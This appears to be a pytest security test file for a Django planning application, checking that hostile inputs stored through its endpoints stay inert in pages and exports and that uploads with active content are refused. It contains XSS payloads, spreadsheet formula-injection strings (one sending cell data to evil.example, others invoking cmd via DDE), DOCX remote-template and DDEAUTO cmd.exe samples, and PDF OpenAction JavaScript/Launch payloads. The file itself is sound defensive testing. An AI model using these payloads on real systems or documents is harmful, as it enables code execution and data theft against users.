"""The review's payload classes stored through the real endpoints, then every page and export
that shows them opened: no 5xx, and the payloads are inert (escaped in HTML, text and never a
formula in XLSX, prefixed in CSV; files with active content refused).

Builds on tests/access/test_fuzz_inputs.py (every form and JSON endpoint gets control
characters, surrogates, impossible numbers and dates, non-UTF-8, with no 5xx and nothing
hostile stored) and tests/web/test_hostile_requests.py; what is new here is what happens
*after* a payload is accepted: the pages and files that show it. The enumeration below ties
the two to the POST policy table, so a new form or JSON endpoint fails until it is fuzzed.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from decimal import Decimal, InvalidOperation
from typing import Any
from xml.etree import ElementTree

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from govplan.documents.models import Attachment, Document
from tests.access import programme_walk
from tests.access.policy_table import POST_EXPECTED
from tests.access.test_fuzz_inputs import (
    ALL_AT_ONCE,
    FORM_VALUES,
    FORM_VIEWS,
    JSON_ENDPOINTS,
    PER_FIELD,
    World,
    build_world,
    form_body,
)
from tests.access.test_url_walk import pool_of
from tests.conftest import PASSWORD, Cast, example_version
from tests.support.otp import authenticator_for, login_password_only

pytestmark = pytest.mark.django_db

# Views that change state but read no field a user types: a button (their fuzzing is the
# CSRF and matrix walk) or a file only (the upload tests below).
BUTTONS_AND_FILES = {
    "document_pdf_to_sign",  # a button: the PDF to sign
    "document_file_retry",  # a button: retry a file
    "unit_signers",  # a certificate file and a choice of approver
    "unit_signer_withdraw",  # a button
    "otp_disable",  # a button: turn one's second factor off
    "otp_recovery_codes",  # a button: new recovery codes
    "session_end",  # a button: end one of one's other sessions
    "sessions_end_others",  # a button: end all one's other sessions
    "user_reset_second_factor",  # a button: an administrator resets a lost phone
    "allocation_mark",  # ticks on a pool's proposal (the fuzz world has none to show)
    "document_fill_rows",  # a button: update the task tables from the task list
} | programme_walk.FUZZ_BUTTONS
# The account's own steps (issue 16): forms a user meets only in a state the page walk never
# puts them in (code owed, password change owed, a reset link opened), so fuzzed below from
# that state.
ACCOUNT_STEPS = {"otp_verify", "password_change_required", "password_reset_confirm"}

XSS = {
    "script": '<script>alert("x1")</script>',
    "img": "<img src=x onerror=alert('x2')>",
    "attribute": '"><svg/onload=alert(3)>',
    "url": "javascript:alert('x4')",
    "template": "{{ 7|add:42 }}{% now 'Y' %}",
}
# What must never reach a page as markup.
LIVE_MARKUP = re.compile(
    r"<script>alert|<img src=x onerror|<svg/onload|href=[\"']?javascript:|>49<", re.I
)
FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}
UNICODE = {
    "rtl_override": "Dự án \u202egnp.exe",
    "combining": "e" + "\u0301" * 5000,
    "zero_width": "Dự\u200b án\u200d\ufeff",
    "long": "Dự án " * 16_000,  # about 100,000 characters
    "emoji_and_astral": "Dự án 🇻🇳 𝔊𝔬𝔳",
}


def client_for(user: Any) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


def text_columns(document: Document) -> tuple[str, list[str]]:
    spec = document.framework_version.parsed()
    for _section, table in spec.tables():
        codes = [c.code for c in table.columns if c.type in ("text", "longtext")]
        if codes:
            return table.code, codes
    raise AssertionError("no table with a text column")


def add_row(client: Client, document: Document, table: str, cells: dict[str, str]) -> Any:
    body = json.dumps({"container": f"row:{table}", "content": {"cells": cells}})
    return client.post(
        reverse("document_entry_add", args=[document.pk]), body, content_type="application/json"
    )


def save_narrative(client: Client, world: World, html: str) -> Any:
    key = world.kwargs["document_entry_history"][1]["key"]
    document = world.draft
    revision = document.entries.get(key=key).revision
    body = json.dumps({"key": key, "base": revision, "content": {"html": html}})
    return client.post(
        reverse("document_entry_save", args=[document.pk]), body, content_type="application/json"
    )


@pytest.fixture
def world(cast: Cast) -> World:
    return build_world(cast)


def pages_showing(world: World) -> list[tuple[Any, str]]:
    cast, draft, appraised = world.cast, world.draft, world.appraised
    table, _columns = text_columns(draft)
    return [
        (cast.editor_a, reverse("document_edit", args=[draft.pk])),
        (cast.viewer_a, reverse("document_edit", args=[draft.pk])),
        (cast.editor_a, reverse("document_history", args=[draft.pk])),
        (cast.editor_a, reverse("document_check", args=[draft.pk])),
        (cast.editor_a, reverse("document_table_history", args=[draft.pk, table])),
        (cast.appraiser, reverse("document_edit", args=[appraised.pk])),
        (cast.editor_a, reverse("document_edit", args=[appraised.pk])),
        (cast.appraiser, reverse("document_revisions", args=[appraised.pk])),
        (cast.appraiser, reverse("document_return_letter", args=[appraised.pk])),
        (cast.appraiser, reverse("appraisal_queue")),
        (cast.editor_a, reverse("notifications")),
        (cast.editor_a, reverse("home")),
        (cast.central_admin, reverse("user_list")),
        (cast.central_admin, reverse("user_detail", args=[cast.editor_a.pk])),
        (cast.central_admin, reverse("unit_detail", args=[cast.province_a.pk])),
        (cast.central_admin, reverse("unit_list") + "?q=Ninh"),
        (cast.central_admin, reverse("legal_list")),
        (cast.central_admin, reverse("legal_proposals")),
        (cast.central_admin, reverse("audit_list")),
        (cast.editor_a, reverse("document_issuing", args=[draft.pk])),
        (cast.editor_a, reverse("unit_issuing_profile", args=[cast.province_a.pk])),
    ]


def assert_inert(client: Client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    html = response.content.decode()
    live = LIVE_MARKUP.search(html)
    assert live is None, f"{url}: live markup {html[max(live.start() - 80, 0) : live.end() + 80]!r}"
    return html


def xlsx_cells(data: bytes) -> list[str]:
    """Every cell's text of a workbook; fails on any formula."""
    book = zipfile.ZipFile(io.BytesIO(data))
    texts: list[str] = []
    for name in book.namelist():
        if not name.endswith(".xml"):
            continue
        xml = book.read(name).decode("utf-8")
        ElementTree.fromstring(xml)  # well-formed
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in xml and "<f " not in xml, f"{name} holds a formula"
        texts += [
            ElementTree.fromstring(f"<t>{t}</t>").text or ""
            for t in re.findall(r"<t[^>]*>(.*?)</t>", xml, re.S)
        ]
    return texts


def body_of(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else bytes(response.content)


def is_number(text: str) -> bool:
    try:
        Decimal(text.replace(",", "."))
    except InvalidOperation:
        return False
    return True


def assert_csv_inert(text: str, where: str) -> None:
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r") or (
                cell.startswith("-") and not is_number(cell)
            ):
                raise AssertionError(f"{where}: a formula-leading cell {cell!r}")


# --- every form and JSON endpoint is fuzzed ---------------------------------------------------


def test_every_state_changing_view_is_fuzzed_somewhere() -> None:
    """A view of the POST table is a form (fuzzed field by field by test_fuzz_inputs), a JSON
    endpoint (fuzzed by key and kind there too) or a button/file view listed here."""
    fuzzed = set(FORM_VIEWS) | set(JSON_ENDPOINTS) | BUTTONS_AND_FILES | ACCOUNT_STEPS
    assert set(POST_EXPECTED) - fuzzed == set(), "a new form: add it to the fuzz (FORM_VIEWS)"
    assert set(POST_EXPECTED) >= BUTTONS_AND_FILES


def test_the_button_and_file_views_take_hostile_bodies_without_a_server_error(
    world: World,
) -> None:
    cast = world.cast
    urls = {
        "document_pdf_to_sign": (
            cast.approver_a,
            reverse("document_pdf_to_sign", args=[world.draft.pk]),
        ),
        "unit_signers": (cast.central_admin, reverse("unit_signers", args=[cast.province_a.pk])),
        "unit_signer_withdraw": (
            cast.central_admin,
            reverse("unit_signer_withdraw", args=[cast.province_a.pk, 1]),
        ),
        "otp_recovery_codes": (cast.approver_a, reverse("otp_recovery_codes")),
        "user_reset_second_factor": (
            cast.central_admin,
            reverse("user_reset_second_factor", args=[cast.editor_a.pk]),
        ),
        "otp_disable": (cast.editor_b, reverse("otp_disable")),
        "session_end": (cast.editor_b, reverse("session_end", args=[1])),
        "sessions_end_others": (cast.editor_b, reverse("sessions_end_others")),
        "allocation_mark": (
            cast.central_admin,
            reverse("allocation_mark", args=[pool_of(cast)[0]]),
        ),
        "document_fill_rows": (cast.editor_a, reverse("document_fill_rows", args=[world.draft.pk])),
        **programme_walk.button_urls(cast),
    }
    bodies = [
        {"user": "9" * 4301, "x": "\u202e" * 100},
        {"user": "[]", "certificate": SimpleUploadedFile("a\u202e.cer", b"\x00" * 300_000)},
        {
            "user": "-1",
            "certificate": SimpleUploadedFile("a.cer", b"-----BEGIN CERTIFICATE-----\n"),
        },
    ]
    for _name, (user, url) in urls.items():
        client = client_for(user)
        for body in bodies:
            for value in body.values():
                if hasattr(value, "seek"):
                    value.seek(0)
            assert client.post(url, body).status_code < 500, url


HOSTILE_VALUES = sorted({*ALL_AT_ONCE, *PER_FIELD["text"], *PER_FIELD["number"]})


def test_the_account_steps_take_hostile_bodies_and_say_why_without_acting(cast: Cast) -> None:
    """Each step's form, from the state where a user meets it, gets every hostile value in
    every field: the form comes back with its message (200, an error list) or the input is
    refused before it (400, the page naming the field), never a 5xx; and nothing is done:
    the session stays unverified, the password unchanged."""
    from django.contrib.auth.tokens import default_token_generator
    from django.contrib.auth.views import INTERNAL_RESET_SESSION_TOKEN
    from django.utils.encoding import force_bytes
    from django.utils.http import urlsafe_base64_encode
    from django_otp import DEVICE_ID_SESSION_KEY

    from govplan.accounts.models import User

    authenticator_for(cast.approver_a)
    code_owed = Client(raise_request_exception=False)
    login_password_only(code_owed, cast.approver_a)
    User.objects.filter(pk=cast.editor_a.pk).update(must_change_password=True)
    change_owed = client_for(cast.editor_a)
    link_opened = Client(raise_request_exception=False)
    session = link_opened.session
    session[INTERNAL_RESET_SESSION_TOKEN] = default_token_generator.make_token(cast.viewer_a)
    session.save()
    uidb64 = urlsafe_base64_encode(force_bytes(cast.viewer_a.pk))
    steps = {
        "otp_verify": (code_owed, reverse("otp_verify"), ["token"]),
        "password_change_required": (
            change_owed,
            reverse("password_change_required"),
            ["old_password", "new_password1", "new_password2"],
        ),
        "password_reset_confirm": (
            link_opened,
            reverse("password_reset_confirm", args=[uidb64, "set-password"]),
            ["new_password1", "new_password2"],
        ),
    }
    assert set(steps) == ACCOUNT_STEPS
    sent = 0
    for name, (client, url, names) in steps.items():
        for key in HOSTILE_VALUES:
            body = form_body([(n, FORM_VALUES[key]) for n in names])
            response = client.post(url, body, content_type="application/x-www-form-urlencoded")
            sent += 1
            if response.status_code == 400:  # refused before the form: the page names the field
                assert response.context["field"] in names, (name, key)
            else:
                assert response.status_code == 200, (name, key, response.status_code)
                assert b'class="errorlist' in response.content, (name, key)
    assert sent == len(steps) * len(HOSTILE_VALUES)
    assert not code_owed.session.get(DEVICE_ID_SESSION_KEY), "a hostile code verified it"
    for user in (cast.editor_a, cast.viewer_a):
        user.refresh_from_db()
        assert user.check_password(PASSWORD), user.username
    cast.editor_a.refresh_from_db()
    assert cast.editor_a.must_change_password


# --- XSS: stored through the endpoints, inert on every page that shows it ----------------------


def test_xss_payloads_stored_in_every_text_field_are_inert_on_every_page(world: World) -> None:
    cast, draft, appraised = world.cast, world.draft, world.appraised
    editor, appraiser, admin = (
        client_for(cast.editor_a),
        client_for(cast.appraiser),
        client_for(cast.central_admin),
    )
    every = " ".join(XSS.values())
    # The editor: rich text, table cells, a legal citation, an attachment's name and note.
    assert (
        save_narrative(
            editor, world, f'<p>{every}</p><a href="javascript:alert(5)">x</a>'
        ).status_code
        == 200
    )
    table, columns = text_columns(draft)
    for payload in XSS.values():
        assert add_row(editor, draft, table, dict.fromkeys(columns, payload)).status_code == 200
    legal = next(s for s in draft.framework_version.parsed().walk() if s.legal_basis is not None)
    editor.post(
        reverse("document_legal_new", args=[draft.pk, legal.code]),
        {
            "legal_number": XSS["img"][:100],
            "legal_issuer": XSS["script"],
            "legal_title": every,
            "legal_type": "decree",
        },
    )
    editor.post(
        reverse("document_attach", args=[draft.pk, legal.code]),
        {
            "file": SimpleUploadedFile(
                f"{XSS['attribute']}.pdf", b"%PDF-1.4\n%%EOF\n", "application/pdf"
            ),
            "description": every,
        },
    )
    editor.post(
        reverse("document_issuing", args=[draft.pk]),
        {"subject": every, "mode": "direct", "signer_name": XSS["script"], "recipients": every},
    )
    # The appraiser: a comment (it notifies the editor), a reply, the checklist note.
    appraiser.post(
        reverse("document_comment", args=[appraised.pk]), {"section": "I", "text": every}
    )
    editor.post(
        reverse(
            "document_comment_reply",
            args=[appraised.pk, world.kwargs["document_comment_reply"]["comment_id"]],
        ),
        {"text": every},
    )
    appraiser.post(
        reverse("document_checklist", args=[appraised.pk]), {"item-0": "on", "note-0": every}
    )
    # The central administrator: a user's name, a unit's short name, a legal entry's title.
    admin.post(
        reverse("user_edit", args=[cast.editor_a.pk]),
        {"username": "editor_a", "full_name": XSS["script"], "email": "", "is_active": "on"},
    )
    admin.post(
        reverse("unit_edit", args=[cast.province_a.pk]),
        {
            "kind": "province",
            "name": "Tỉnh Bắc Ninh",
            "short_name": XSS["img"],
            "level_name": "Tỉnh",
        },
    )
    admin.post(
        reverse("legal_add"),
        {
            "code": "ND-98-2099",
            "doc_type": "decree",
            "number": XSS["attribute"][:100],
            "date": "2026-01-01",
            "issuer": XSS["img"],
            "title": every,
        },
    )
    cast.editor_a.refresh_from_db()
    stored = Document.objects.get(pk=draft.pk).entries.filter(content__icontains="alert").count()
    assert stored >= len(XSS), "the payloads were not even stored: the test proves nothing"
    for user, url in pages_showing(world):
        assert_inert(client_for(user), url)
    # The files made of the plan open and hold the text as text.
    texts = xlsx_cells(body_of(editor.get(reverse("document_xlsx", args=[draft.pk]))))
    assert any(XSS["script"] in t for t in texts)
    docx = editor.get(reverse("document_docx", args=[draft.pk]))
    assert docx.status_code == 200


# --- formula injection: every export ----------------------------------------------------------


def test_formulas_typed_into_cells_are_text_in_every_export(world: World, settings: Any) -> None:
    cast, draft = world.cast, world.draft
    editor = client_for(cast.editor_a)
    table, columns = text_columns(draft)
    for payload in FORMULAS.values():
        response = add_row(editor, draft, table, dict.fromkeys(columns, payload))
        assert response.status_code in (200, 400), response.content[:300]
    version = example_version()
    downloads = [
        reverse("document_xlsx", args=[draft.pk]),
        reverse("document_xlsx_table", args=[draft.pk, table]),
        reverse("cycle_xlsx", args=[version.framework.code, version.number]),
    ]
    seen = []
    for url in downloads:
        response = editor.get(url)
        assert response.status_code == 200, url
        data = body_of(response)
        seen += xlsx_cells(data)
    assert any("HYPERLINK" in t for t in seen), "the formulas were not even exported"
    for fmt in ("csv",):
        response = client_for(cast.central_admin).get(reverse("national_budget_export", args=[fmt]))
        assert response.status_code == 200
        data = body_of(response)
        assert_csv_inert(data.decode("utf-8"), f"national_budget_export.{fmt}")


def test_the_batch_exports_manifest_neutralises_formula_leading_text(
    world: World, django_capture_on_commit_callbacks: Any
) -> None:
    from govplan.official.models import ExportJob, ExportState

    cast, draft = world.cast, world.draft
    Document.objects.filter(pk=draft.pk).update(title=FORMULAS["equals"])
    type(cast.province_a).objects.filter(pk=cast.province_a.pk).update(name=FORMULAS["plus"])
    version = example_version()
    with django_capture_on_commit_callbacks(execute=True):
        client_for(cast.central_admin).post(
            reverse("export_start", args=[version.framework.code, version.number]),
            {"status": "", "formats": ["docx"]},
        )
    job = ExportJob.objects.latest("pk")
    assert job.state == ExportState.DONE, job.error
    from govplan.official import export_files

    with zipfile.ZipFile(export_files.zip_path(job)) as archive:
        text = archive.read(export_files.MANIFEST_NAME).decode("utf-8-sig")
    assert "HYPERLINK" in text
    assert_csv_inert(text, "danh-sach.csv")


# --- uploads: active content and size -----------------------------------------------------------


def pdf_with(body: bytes) -> bytes:
    return b"%PDF-1.4\n1 0 obj\n<<" + body + b">>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"


def docx_with(parts: dict[str, bytes], document_xml: bytes | None = None) -> bytes:
    from docx import Document as Docx

    base = io.BytesIO()
    Docx().save(base)
    source = zipfile.ZipFile(io.BytesIO(base.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/document.xml" and document_xml is not None:
                data = data.replace(b"<w:body>", b"<w:body>" + document_xml, 1)
            target.writestr(item, parts.pop(item.filename, data))
        for name, data in parts.items():
            target.writestr(name, data)
    return out.getvalue()


REMOTE_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlfor'
    b'mats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example'
    b'/t.dotm" TargetMode="External"/></Relationships>'
)
DDE_FIELD = (
    b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
    b' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r><w:r>'
    b'<w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
ACTIVE_FILES = {
    "pdf_javascript": (
        "bien-ban.pdf",
        pdf_with(b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
    ),
    "pdf_launch": ("bien-ban.pdf", pdf_with(b"/Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>")),
    "pdf_embedded_file": (
        "bien-ban.pdf",
        pdf_with(b"/Type/Catalog/Names<</EmbeddedFiles<</Names[(a.exe) 2 0 R]>>>>"),
    ),
    "docx_remote_template": (
        "bien-ban.docx",
        docx_with({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
    ),
    "docx_dde_field": ("bien-ban.docx", docx_with({}, DDE_FIELD)),
    "docx_ole_object": (
        "bien-ban.docx",
        docx_with(
            {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512}
        ),
    ),
}


@pytest.mark.parametrize("kind", list(ACTIVE_FILES))
def test_an_evidence_file_with_active_content_is_refused(world: World, kind: str) -> None:
    name, data = ACTIVE_FILES[kind]
    draft = world.draft
    before = Attachment.objects.count()
    response = client_for(world.cast.editor_a).post(
        reverse("document_attach", args=[draft.pk, world.kwargs["document_attach"]["code"]]),
        {"file": SimpleUploadedFile(name, data), "description": "Bằng chứng"},
        follow=True,
    )
    assert response.status_code == 200
    assert Attachment.objects.count() == before, f"{kind} was accepted"


def test_an_oversized_evidence_file_is_refused_with_a_message(world: World, settings: Any) -> None:
    settings.ATTACHMENT_MAX_BYTES = 64 * 1024
    before = Attachment.objects.count()
    response = client_for(world.cast.editor_a).post(
        reverse("document_attach", args=[world.draft.pk, world.kwargs["document_attach"]["code"]]),
        {
            "file": SimpleUploadedFile("to.pdf", b"%PDF-1.4\n" + b"0" * 65 * 1024 + b"\n%%EOF\n"),
            "description": "",
        },
        follow=True,
    )
    assert response.status_code == 200
    assert Attachment.objects.count() == before
    assert "message-error" in response.content.decode()


# --- Unicode and JSON shapes --------------------------------------------------------------------


def test_unicode_tricks_in_text_never_break_a_page_or_an_export(world: World) -> None:
    cast, draft = world.cast, world.draft
    editor, appraiser = client_for(cast.editor_a), client_for(cast.appraiser)
    table, columns = text_columns(draft)
    for label, value in UNICODE.items():
        response = add_row(editor, draft, table, dict.fromkeys(columns[:1], value))
        assert response.status_code < 500, label
        response = save_narrative(editor, world, f"<p>{value}</p>")
        assert response.status_code < 500, label
        response = appraiser.post(
            reverse("document_comment", args=[world.appraised.pk]), {"section": "I", "text": value}
        )
        assert response.status_code < 500, label
    for user, url in pages_showing(world)[:12]:
        assert_inert(client_for(user), url)
    xlsx_cells(body_of(editor.get(reverse("document_xlsx", args=[draft.pk]))))


JSON_BODIES = {
    "duplicate_keys": (
        '{"container": "row:TABLE", "container": "row:nope", "content": {"cells": {}}}'
    ),
    "duplicate_cell": '{"container": "row:TABLE", "content": {"cells": {"COL": "a", "COL": "b"}}}',
    "huge_array": '{"container": "row:TABLE", "content": {"cells": {"COL": ['
    + ",".join(["1"] * 200_000)
    + "]}}}",
    "huge_object": '{"container": "row:TABLE", "content": {"cells": {'
    + ",".join(f'"c{n}": "x"' for n in range(50_000))
    + "}}}",
    "deep": '{"container": "row:TABLE", "content": ' + '{"a": ' * 5000 + "1" + "}" * 5000 + "}",
    "wrong_types": '{"container": ["row:TABLE"], "content": "cells", "after": {"x": 1}}',
    "cells_null": '{"container": "row:TABLE", "content": {"cells": null, "phasing": 7}}',
    "number_key": '{"container": 7, "content": {"cells": {"COL": 1e400}}}',
}


@pytest.mark.parametrize("label", sorted(JSON_BODIES))
def test_malformed_json_is_refused_or_stored_harmlessly(world: World, label: str) -> None:
    draft = world.draft
    table, columns = text_columns(draft)
    body = JSON_BODIES[label].replace("TABLE", table).replace("COL", columns[0])
    editor = client_for(world.cast.editor_a)
    response = editor.post(
        reverse("document_entry_add", args=[draft.pk]), body, content_type="application/json"
    )
    assert response.status_code < 500, response.content[:300]
    if response.status_code >= 400:
        assert response.json().get("error") or response.json().get("errors"), response.content[:300]
    assert_inert(editor, reverse("document_edit", args=[draft.pk]))
    xlsx_cells(body_of(editor.get(reverse("document_xlsx", args=[draft.pk]))))
